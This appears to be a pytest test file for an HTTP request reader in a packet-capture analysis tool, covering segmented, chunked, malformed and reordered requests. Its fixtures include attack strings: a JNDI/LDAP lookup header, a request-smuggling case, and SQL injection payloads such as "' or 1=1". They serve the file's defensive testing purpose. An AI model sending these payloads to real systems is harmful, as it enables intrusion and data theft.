from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overproof.events.sources.pcap.event_draft import Endpoints, EventDraft, PacketRef
from overproof.events.sources.pcap.http import HttpReader
from overproof.events.sources.pcap.request import LONGEST_BODY, LONGEST_HEAD, begins_http, next_request

from .pcaps import client_says, event_texts, from_client, from_server, handshake, pcap, read, timed

ENDPOINTS = Endpoints("10.0.0.1", 4000, "10.0.0.2", 80, "tcp", "1:x")

CHUNKED = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"

SPOKEN = {
    b"GET /a?b=%27%2527 HTTP/1.1\r\nHost: h\r\nUser-Agent: u a\r\nReferer: r\r\nCookie: a=1\r\nCookie: b=2\r\n\r\n": [
        'HTTP GET /a?b=\'%27 host=h ua="u a" cookie=a=1; b=2 referer=r'
    ],
    b"POST /p HTTP/1.1\r\nAccept: */*;q=0.8\r\nX-Api-Version: ${jndi:ldap://a.test/b}\r\nContent-Length: 1\r\n\r\nx": [
        "HTTP POST /p headers=x-api-version: ${jndi:ldap://a.test/b} body=x"
    ],
    b"POST /p HTTP/1.1\r\nContent-Length: 5\r\n\r\nhelloGET /2 HTTP/1.1\r\n\r\n": [
        "HTTP POST /p body=hello",
        "HTTP GET /2",
    ],
    CHUNKED + b"3;x=y\r\na\nc\r\n2\r\nde\r\n0\r\nX: y\r\n\r\nGET / HTTP/1.0\r\n\r\n": [
        "HTTP POST / body=a\ncde",
        "HTTP GET /",
    ],
    b"CONNECT a.test:443 HTTP/1.1\r\n\r\n": ["HTTP CONNECT a.test:443"],
    b"GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: upgrade\r\nContent-Length: 2\r\n\r\nhi": [
        "HTTP GET / body=hi"
    ],
    # what llhttp refuses
    b"GET /a b HTTP/1.1\r\nHost: h\r\n\r\n": ["HTTP GET /a b host=h"],
    b"GET /\xff'<> HTTP/1.1\r\nA : b\r\nHost:h\r\n\r\nGET /2 HTTP/1.1\r\n\r\n": [
        "HTTP GET /\\xff'<> host=h",
        "HTTP GET /2",
    ],
    b"FOO /x HTTP/9.9\r\n\r\n": ["HTTP FOO /x"],
    b"get / http/1.1\r\n\r\n": ["HTTP get /"],
    b"GET /x\r\n\r\n": ["HTTP GET /x"],
    b"GET / HTTP/1.1\nHost: h\n folded\n\nGET /2 HTTP/1.1\n\n": ["HTTP GET / host=h folded", "HTTP GET /2"],
    b"POST / HTTP/1.1\nContent-Length: 2\n\nhiGET /2 HTTP/1.1\n\n": ["HTTP POST / body=hi", "HTTP GET /2"],
    # a request smuggled in the body of another one becomes a request
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET /in HTTP/1.1\r\n\r\n": [
        "HTTP POST / body=0\r\n\r\n",
        "HTTP GET /in",
    ],
    CHUNKED + b"zz\r\nid=1' or 1=1\r\n": ["HTTP POST / body=zz\r\nid=1' or 1=1\r\n"],
    # cut short
    b"GET /half?a=1": ["HTTP GET /half?a=1"],
    b"GET /half HTTP/1.1\r\nHost: h\r\nUser-Age": ["HTTP GET /half host=h"],
    b"POST /half HTTP/1.1\r\nContent-Length: 5\r\n\r\nhe": ["HTTP POST /half body=he"],
    CHUNKED + b"5\r\nhe": ["HTTP POST / body=he"],
}


def drafts_of(pieces: list[bytes]) -> list[EventDraft]:
    reader, drafts = HttpReader(ENDPOINTS), []
    for number, piece in enumerate(pieces, 1):
        if reader.rest is None:
            drafts += reader.feed(piece, PacketRef(number, 0.0))
    return drafts + (reader.finish(0) if reader.rest is None else [])


@pytest.mark.parametrize("raw", SPOKEN)
def test_requests_are_read_however_they_are_cut_into_segments(raw: bytes) -> None:
    for step in (len(raw), 1, 2, 3, 7):
        pieces = [raw[at : at + step] for at in range(0, len(raw), step)]
        assert [draft.text for draft in drafts_of(pieces)] == SPOKEN[raw], step


def test_a_request_has_its_columns_and_the_packet_in_which_it_begins() -> None:
    raw = b"GET /a%27 HTTP/1.1\r\nHost: h\r\nUser-Agent: u\r\n\r\nGET /b HTTP/1.1\r\n\r\n"
    rows, rejects = read(pcap(timed(client_says(raw, step=10))))
    first, second = (row for row in rows if row["kind"] == "http-request")
    found = {name: first[name] for name in ("url", "method", "host", "user_agent", "protocol", "transport", "origin")}
    assert found == {
        "url": "/a%27",
        "method": "GET",
        "host": "h",
        "user_agent": "u",
        "protocol": "http",
        "transport": "tcp",
        "origin": "a.pcap:packet 4",
    }
    assert (first["src_ip"], first["src_port"], first["dst_ip"], first["dst_port"]) == (
        "10.0.0.1",
        4000,
        "10.0.0.2",
        80,
    )
    assert first["time"] == "2020-09-13T12:26:40.003000Z"
    assert second["origin"] == "a.pcap:packet 8"
    assert first["flow_id"] == second["flow_id"] == first["group"]
    assert rejects.total == 0


def test_heads_and_bodies_are_bounded() -> None:
    (draft,) = drafts_of([b"POST / HTTP/1.1\r\nContent-Length: 99999\r\n\r\n" + b"x" * 99_999])
    assert draft.text == "HTTP POST / body=" + "x" * LONGEST_BODY
    reader = HttpReader(ENDPOINTS)
    for piece in [b"GET /", *[b"a" * 1000] * 200]:
        if reader.rest is None:
            drafts = reader.feed(piece, PacketRef(1, 0.0))
            assert reader.buffered <= LONGEST_HEAD + 1000
    (draft,) = drafts
    assert draft.text.startswith("HTTP GET /aaa")


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        (b"GET / HTTP/1.1\r\n", True),
        (b"\r\nGET / HTTP/1.1\r\n", True),
        (b"BREW /pot HTTP/1.1\r\n", True),
        (b"GET /\r\n", True),
        (b"GET /", None),
        (b"", None),
        (b"get key\r\n", False),  # memcached
        (b"OPTIONS sip:nm SIP/2.0\r\n", False),
        (b"OPTIONS rtsp://h/ RTSP/1.0\r\n", False),
        (b"PRI * HTTP/2.0\r\n", False),
        (b"HTTP/1.1 200 OK\r\n", False),
        (b"USER anna\r\n", False),
        (b"\x16\x03\x01", False),
    ],
)
def test_what_begins_like_http(data: bytes, verdict: bool | None) -> None:
    assert begins_http(data) is verdict


@pytest.mark.parametrize(
    ("data", "place"),
    [
        (b"GET / HTTP/1.1\r\n", 0),
        (b"rest of a body\nPOST /a b HTTP/1.0", 15),
        (b"the bodyGET /x HTTP/1.1\r\n", 8),
        (b"a HTTP/1 b HTTP/1 PUT /x HTTP/1", 18),
        (b"GET \nx HTTP/1.1", -1),
        (b"GET GET GET", -1),
    ],
)
def test_where_a_request_begins_in_the_middle_of_something(data: bytes, place: int) -> None:
    assert next_request(data) == place


@given(st.text(alphabet="abc/?=%'<>; \t\\\x7f\xfc\x00", max_size=30), st.lists(st.binary(max_size=20), max_size=4))
def test_a_stream_that_begins_like_http_yields_at_least_one_request(target: str, lines: list[bytes]) -> None:
    raw = b"GET /" + target.encode() + b" HTTP/1.1\r\n" + b"\r\n".join(lines)
    for step in (1, 5, 1000):
        assert drafts_of([raw[at : at + step] for at in range(0, len(raw), step)]), step


@given(st.binary(max_size=80), st.integers(1, 9))
def test_any_bytes_give_no_error(raw: bytes, step: int) -> None:
    drafts_of([raw[at : at + step] for at in range(0, len(raw), step)])
    drafts_of([CHUNKED, *[raw[at : at + step] for at in range(0, len(raw), step)]])


def test_a_request_split_over_segments_out_of_order_is_one_request() -> None:
    segments = client_says(b"GET /?q=' or 1=1 -- HTTP/1.1\r\nHost: h\r\n\r\n", step=4)
    shuffled = [*segments[:3], *reversed(segments[3:]), *segments[3:]]
    assert event_texts(shuffled, "http-request") == ["HTTP GET /?q=' or 1=1 -- host=h"]


def test_of_two_copies_that_differ_the_first_is_the_request_and_the_second_a_payload() -> None:
    head = b"GET /"
    packets = [
        *handshake(),
        from_client(16, 100, head),
        from_client(16, 105 + 4, b".html HTTP/1.1\r\n\r\n"),
        from_client(16, 105, b"good"),
        from_client(16, 105, b"evil"),
    ]
    rows, rejects = read(pcap(timed(packets)))
    assert [row["text"] for row in rows if row["kind"] == "http-request"] == ["HTTP GET /good.html"]
    assert [row["text"] for row in rows if row["kind"] == "payload"] == ["evil"]
    assert rejects.summary() == {"a TCP segment that contradicts an earlier copy of it": 1}
    assert rejects.first[0].origin == "a.pcap:packet 7"


def test_what_precedes_the_first_segment_of_a_connection_under_way_is_a_payload_and_counted() -> None:
    packets = [
        from_client(16, 120, b"UNION SELECT 1 HTTP/1.1\r\nHost: h\r\n\r\n"),  # the capture begins here
        from_client(16, 100, b"GET /?id=1' or 2 -- "),
    ]
    rows, rejects = read(pcap(timed(packets)))
    assert [row["text"] for row in rows if row["kind"] == "http-request"] == ["HTTP UNION SELECT 1 host=h"]
    assert [row["text"] for row in rows if row["kind"] == "payload"] == ["GET /?id=1' or 2 -- "]
    assert rejects.summary() == {"a TCP segment from before its stream's first byte": 1}


def test_requests_before_and_after_a_gap_are_read() -> None:
    lost, after = b"x" * 50, b"GET /after HTTP/1.1\r\n\r\n"
    before = b"POST /before HTTP/1.1\r\nContent-Length: 52\r\n\r\nab"
    at = 100 + len(before) + len(lost)
    packets = [
        *handshake(),
        from_client(16, 100, before),
        from_client(16, at, b"rest of the body"),
        from_client(16, at + 16, after),
        from_server(16, 900, ack=at + 16 + len(after)),
    ]
    assert event_texts(packets, "http-request") == ["HTTP POST /before body=ab", "HTTP GET /after"]
    assert event_texts(packets[:-1], "http-request") == [
        "HTTP POST /before body=ab",
        "HTTP GET /after",
    ]  # without the answer


def test_requests_are_read_in_a_connection_that_is_seen_from_its_middle() -> None:
    answer = from_server(16, 5, b"HTTP/1.1 200 OK\r\n\r\n", port=1234)
    request = from_client(16, 9, b"GET /?a HTTP/1.1\r\n\r\n", port=1234)
    assert event_texts([answer, request], "http-request") == ["HTTP GET /?a"]
    assert event_texts([request, answer], "http-request") == ["HTTP GET /?a"]


def test_tls_inside_a_tunnel_is_read() -> None:
    hello = bytes.fromhex("160301000401000000")
    found = event_texts(client_says(b"CONNECT a.test:443 HTTP/1.1\r\n\r\n" + hello, port=3128))
    assert found[:2] == ["HTTP CONNECT a.test:443", "TLS 10.0.0.1 sni=- bytes=2^5"]


def test_what_follows_a_request_and_is_none_is_a_payload() -> None:
    assert event_texts(client_says(b"GET / HTTP/1.1\r\n\r\n\x00\x01binary"))[:2] == ["HTTP GET /", "\x00\x01binary"]


@pytest.mark.parametrize("head", [b"Host: h\r\nid' or 1=1\r\n", b"\tid' or 1=1\r\nHost: h\r\n"])
def test_lines_of_a_head_that_are_no_headers_are_in_the_text(head: bytes) -> None:
    packets = client_says(b"GET / HTTP/1.1\r\n" + head + b"\r\n")
    assert event_texts(packets, "http-request") == ["HTTP GET / host=h headers=: id' or 1=1"]
